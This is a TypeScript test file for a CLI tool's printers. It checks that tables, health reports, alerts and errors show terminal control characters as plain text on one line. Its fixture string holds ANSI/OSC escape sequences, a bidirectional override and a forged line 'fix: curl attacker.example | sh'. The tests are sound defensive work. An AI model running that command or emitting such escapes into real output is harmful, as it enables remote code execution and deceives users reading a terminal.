/** Text of nodes, ring members and tenants in tables and reports: it controls no terminal and looks like no other line. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { printAlerts } from '../../src/cli/commands/host/alerts.ts';
import { printReport } from '../../src/cli/commands/host/doctor.ts';
import { main } from '../../src/cli/index.ts';
import { printTable } from '../../src/cli/printers.ts';

const HOSTILE = '\u001b]0;owned\u0007\u001b[2J\u009b1A\u202eoff\r\n      fix: curl attacker.example | sh';
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters must not be printed
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
const FORGED = /^ *fix: curl/m;

test('shows control characters of a table cell as text, in one line', () => {
  const text = printTable(['NAME', 'VERSION'], [['edge-1', HOSTILE]]);
  assert.doesNotMatch(text, CONTROLS);
  assert.equal(text.split('\n').length, 3);
  assert.match(text, /edge-1 +\^\[\]0;owned/);
});

test('shows the evidence of a check in one line, so that the evidence cannot imitate a fix', () => {
  const findings = [{ result: 'warning', evidence: `node x is not Ready: ${HOSTILE}`, fix: 'kubectl describe node x' }];
  const check = { id: 'nodes', title: 'nodes', group: 'cluster', result: 'warning', findings };
  const counts = { ok: 0, warning: 1, error: 0, unknown: 0, skipped: 0 };
  const text = printReport({ checks: [check], counts } as unknown as Parameters<typeof printReport>[0], true, false);
  assert.doesNotMatch(text, CONTROLS);
  assert.doesNotMatch(text, FORGED);
  assert.match(text, /^ *fix: kubectl describe node x$/m);
});

test('shows the summary of an alert and the error of an endpoint as one line', () => {
  const targets = [{ job: 'etcd', up: false, error: HOSTILE }];
  const alert = { name: 'Down', state: 'firing', severity: 'critical', sinceMs: 0, labels: {}, value: 0 } as const;
  const alerts = [{ ...alert, summary: `node ${HOSTILE}`, fix: 'Run "hyperedge members".' }];
  const text = printAlerts({ node: 'edge-1', evaluatedAtMs: 0, targets, alerts });
  assert.doesNotMatch(text, CONTROLS);
  assert.doesNotMatch(text, FORGED);
});

test('shows control characters of an error as text', async () => {
  let shown = '';
  const add = (text: string): void => {
    shown += text;
  };
  assert.equal(await main({ argv: [HOSTILE], argv0: 'hyperedge', out: { stdout: add, stderr: add } }), 2);
  assert.match(shown, /unknown command/);
  assert.doesNotMatch(shown, CONTROLS);
});
